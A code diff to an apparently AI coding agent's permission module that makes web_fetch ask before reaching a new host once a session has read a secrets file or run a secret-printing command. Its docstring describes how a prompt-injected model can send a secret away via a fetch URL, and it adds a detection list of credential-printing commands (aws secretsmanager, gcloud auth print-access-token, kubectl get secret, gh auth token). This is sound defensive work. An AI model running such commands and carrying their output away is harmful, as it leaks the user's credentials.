@@ -1,4 +1,5 @@
-"""Once a session has read a secrets file, web_fetch asks before it reaches a new host.
+"""Once a session has read a secrets file, or run a command that prints secrets, web_fetch
+asks before it reaches a new host.
 
 ``read_file .env`` then ``web_fetch https://host/?d=<what it said>`` is how a prompt-injected
 model sends a secret away with no question: web_fetch is read-only, so it runs freely. The
@@ -18,7 +19,11 @@ as a path or as a word of a command line (``cat .env``, ``source .envrc``, an MC
 ``{"path": "prod.tfvars"}``); whose path leads to one (``notes.txt``, a symlink to ``.env``:
 the real paths the call was judged on); or whose output shows lines of one as grep prints them
 (``.env:1:KEY=...``, ``./.env:KEY=...``: the grep tool searching the whole project, a
-``grep -r`` the user allowed). A session loaded again remembers it from its stored tool calls.
+``grep -r`` the user allowed). A command that prints what a secret store or a cloud's login
+holds counts as one (:data:`SECRET_COMMANDS`: ``aws secretsmanager get-secret-value``,
+``gcloud auth print-access-token``, ``vault kv get``, ``kubectl get secret`` ...), by its words
+in the input, wherever they stand in the line (``x=$(aws --profile p ssm get-parameter ...)``).
+A session loaded again remembers it from its stored tool calls.
 """
 
 from __future__ import annotations
@@ -29,7 +34,7 @@ from collections.abc import Callable, Iterable, Iterator
 from typing import TYPE_CHECKING, Any
 from urllib.parse import urlsplit
 
-from attrs import evolve
+from attrs import evolve, frozen
 
 from iaccode.protocol.content import TextContent
 from iaccode.protocol.tool_calls import ContentToolCallContent, PermissionOption, ToolCallFields
@@ -102,6 +107,76 @@ SECRET_FOLDERS = (
 SECRET_DATA = re.compile(r".*secret.*\.(ya?ml|json|toml|ini|conf|cfg|properties|txt)$")
 """Data files named for a secret (a Kubernetes ``db-secret.yaml``); not code (``secret.py``)."""
 
+SECRET_COMMANDS = tuple(
+    tuple(line.split())
+    for line in (
+        "aws secretsmanager get-secret-value",
+        "aws secretsmanager batch-get-secret-value",
+        "aws ssm get-parameter",
+        "aws ssm get-parameters",
+        "aws ssm get-parameters-by-path",
+        "aws ecr get-login-password",
+        "aws ecr-public get-login-password",
+        "aws eks get-token",
+        "aws sts get-session-token",
+        "aws sts get-federation-token",
+        "aws sts assume-role",
+        "aws sts assume-role-with-saml",
+        "aws sts assume-role-with-web-identity",
+        "aws configure get",
+        "aws configure export-credentials",
+        "aws ec2 get-password-data",
+        "aws kms decrypt",
+        "aws iam create-access-key",
+        "aws rds generate-db-auth-token",
+        "aws codeartifact get-authorization-token",
+        "gcloud auth print-access-token",
+        "gcloud auth print-identity-token",
+        "gcloud auth application-default print-access-token",
+        "gcloud secrets versions access",
+        "az account get-access-token",
+        "az keyvault secret show",
+        "az keyvault secret download",
+        "az storage account keys list",
+        "az storage account show-connection-string",
+        "az acr credential show",
+        "aliyun kms getsecretvalue",
+        "vault kv get",
+        "vault read",
+        "vault token create",
+        "vault print token",
+        "kubectl get secret",
+        "kubectl get secrets",
+        "kubectl create token",
+        "kubectl config view --raw",
+        "pulumi stack output --show-secrets",
+        "pulumi stack export --show-secrets",
+        "pulumi config --show-secrets",
+        "sops -d",
+        "sops --decrypt",
+        "sops decrypt",
+        "ansible-vault view",
+        "ansible-vault decrypt",
+        "op read",
+        "op item get",
+        "doppler secrets",
+        "pass show",
+        "gpg -d",
+        "gpg --decrypt",
+        "gh auth token",
+        "git credential fill",
+    )
+)
+"""Commands (any case) that print secrets: the program, then words that follow it in the same
+command in this order, options and their values allowed between (``aws --profile p ssm
+get-parameter``). A word matches itself or a path under it (``kubectl get secret/db``)."""
+_BY_PROGRAM: dict[str, list[tuple[str, ...]]] = {}
+""":data:`SECRET_COMMANDS` by their program: the words that must follow it."""
+for program, *wanted in SECRET_COMMANDS:
+    _BY_PROGRAM.setdefault(program, []).append(tuple(wanted))
+del program, wanted
+_COMMAND_BREAKS = re.compile(r"[;&|\n(){}`]")
+"""Where one command of a line ends: ``;``, ``&&``, ``|``, a new line, ``$(``, a group."""
 
 _WORDS = re.compile(r"[^\s;|&<>()'\"`=,]+")
 _GREP_LINE = re.compile(
@@ -165,13 +240,63 @@ def secret_file_reached(raw_input: Any, paths: Iterable[str] = ()) -> str | None
     return secret_file_in(raw_input) or next((p for p in paths if is_secret_file(p)), None)
 
 
+def _follows(words: list[str], wanted: tuple[str, ...]) -> bool:
+    """Whether ``wanted`` are among ``words`` in this order (others may stand between)."""
+    rest = iter(words)
+    return all(any(w == want or w.startswith(want + "/") for w in rest) for want in wanted)
+
+
+def secret_command_in(raw_input: Any) -> str | None:
+    """The first command that prints secrets (:data:`SECRET_COMMANDS`) a tool input names,
+    as its words: ``aws secretsmanager get-secret-value``."""
+    for text in _strings(raw_input):
+        if len(text) >= 100_000:
+            continue
+        for command in _COMMAND_BREAKS.split(text.lower()):
+            words = _WORDS.findall(command)
+            for i, word in enumerate(words):
+                program = word.rsplit("/")[-1]  # by its name or a path (/usr/local/bin/aws)
+                for wanted in _BY_PROGRAM.get(program, ()):
+                    if _follows(words[i + 1 :], wanted):
+                        return " ".join((program, *wanted))
+    return None
+
+
+@frozen
+class SecretsRead:
+    """What a call of the session read that holds secrets: a file, or a command's output."""
+
+    what: str
+    """The file as the call named it (``prod.tfvars``), or the command's words."""
+    command: bool = False
+
+    def described(self) -> str:
+        if self.command:
+            return f"the output of `{self.what}`, a command that prints secrets"
+        return f"{self.what}, a file that holds secrets"
+
+    def done(self) -> str:
+        """What the session did, for a question's title: ``reading .env``."""
+        return f"running {self.what}" if self.command else f"reading {self.what}"
+
+
+def secrets_read(raw_input: Any, paths: Iterable[str] = ()) -> SecretsRead | None:
+    """What secrets a call of a tool that reads what it names reads: a secrets file it names
+    or reaches (:func:`secret_file_reached`), else a command that prints them."""
+    if file := secret_file_reached(raw_input, paths):
+        return SecretsRead(file)
+    if command := secret_command_in(raw_input):
+        return SecretsRead(command, command=True)
+    return None
+
+
 class Exposure:
     """What the session read that web_fetch must not carry away unasked (shared by the
     session's turns and sub-agents)."""
 
     def __init__(self) -> None:
-        self.secret_file: str | None = None
-        """The first secrets file a call of the session read (None: none yet)."""
+        self.secrets: SecretsRead | None = None
+        """The first secrets a call of the session read (None: none yet)."""
         self.hosts: set[str] = set()
         """Hosts the user let web_fetch reach since."""
 
@@ -199,21 +324,21 @@ class Exposure:
 
     def note(self, raw_input: Any, paths: Iterable[str] = ()) -> None:
         """A call of a tool that reads what it names ran (or was allowed to): remember the
-        secrets file it read, if any (by its input, or by the real ``paths`` it was judged
-        on)."""
-        if self.secret_file is None:
-            self.secret_file = secret_file_reached(raw_input, paths)
+        secrets it read, if any (a file by its input or by the real ``paths`` it was judged
+        on, a command that prints them)."""
+        if self.secrets is None:
+            self.secrets = secrets_read(raw_input, paths)
 
     def note_output(self, output: str) -> None:
         """Such a call's output: remember the secrets file whose lines it shows, if any."""
-        if self.secret_file is None:
-            self.secret_file = secret_file_shown(output)
+        if self.secrets is None and (shown := secret_file_shown(output)):
+            self.secrets = SecretsRead(shown)
 
     def host_to_ask(self, tool: Tool, args: Any, mode: str) -> str | None:
         """The host a call of a tool that reaches the open world (kind "fetch": web_fetch, an
         MCP server's fetch tool) must ask for (None: it may run as usual): its address
         (``Tool.address``), else the first URL in its input, else the tool itself."""
-        if tool.kind != "fetch" or self.secret_file is None or mode == "bypass":
+        if tool.kind != "fetch" or self.secrets is None or mode == "bypass":
             return None
         url = tool.address(args)
         if url is None:
@@ -225,10 +350,11 @@ class Exposure:
         self, fields: ToolCallFields, host: str
     ) -> tuple[ToolCallFields, list[PermissionOption]]:
         """The permission question for a fetch from ``host``, and its options."""
+        assert self.secrets is not None  # host_to_ask gave a host
         text = (
-            f"This session read {self.secret_file}, a file that holds secrets. This call "
-            f"sends a request to {host}, which could carry what the file said away (in "
-            "the URL). Allow it only if you trust the address."
+            f"This session read {self.secrets.described()}. This call sends a request to "
+            f"{host}, which could carry what it said away (in the URL). Allow it only if you "
+            "trust the address."
         )
         options = [
             PermissionOption(ALLOW_HOST, f"Allow {host} for this session", "allow_always"),
@@ -236,7 +362,7 @@ class Exposure:
         ]
         return evolve(
             fields,
-            title=f"Fetch from {host} after reading {self.secret_file}",
+            title=f"Fetch from {host} after {self.secrets.done()}",
             content=[ContentToolCallContent(TextContent(text))],
         ), options
 
